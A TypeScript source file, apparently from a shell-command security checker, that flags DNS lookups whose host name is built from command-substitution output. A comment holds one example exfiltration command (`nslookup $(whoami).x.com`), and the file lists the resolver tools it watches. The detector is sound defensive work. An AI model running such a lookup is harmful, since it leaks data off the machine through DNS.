import type { Word } from "./ir.js";
import type { Ctx } from "./evaluate-context.js";

/**
 * Programs that look up the host name they are given (`nslookup`, `dig`, `host`, `ping`): a name
 * built from a command's output (`nslookup $(whoami).x.com`) sends that output to whoever serves
 * the domain, through the DNS, even where nothing else may leave the machine.
 */
const RESOLVERS: ReadonlySet<string> = new Set(["nslookup", "dig", "host", "drill", "delv", "kdig", "ping", "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "getent", "resolvectl", "arping", "fping"]);

/** Whether a word holds a command substitution's output (`$(…)`, `` `…` ``). */
function carriesOutput(w: Word): boolean {
  return w.subs.length > 0 && !w.processSub;
}

/** Reports a lookup of a name made from a command's output. */
export function dnsLookups(name: string, args: readonly Word[], ctx: Ctx): void {
  if (ctx.shell === "powershell" || !RESOLVERS.has(name)) return;
  if (!args.some(carriesOutput)) return;
  ctx.findings.push({ category: "network exposure", risk: "moderate", detail: `${name} looks up a name made from a command's output, which sends that output out through the DNS` });
}
